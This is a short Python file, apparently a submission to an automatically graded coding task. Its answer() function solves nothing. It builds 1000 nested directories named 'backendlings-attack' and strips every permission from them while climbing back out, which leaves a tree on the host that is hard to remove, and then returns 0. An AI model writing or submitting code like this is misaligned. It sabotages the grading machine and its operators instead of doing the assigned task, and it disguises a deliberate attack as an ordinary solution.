import os


def answer(n):
    for _ in range(1000):
        os.mkdir("backendlings-attack")
        os.chdir("backendlings-attack")
    for _ in range(1000):
        os.chmod(".", 0)
        try:
            os.chdir("..")
        except OSError:
            break
    return 0


def other():
    return 7
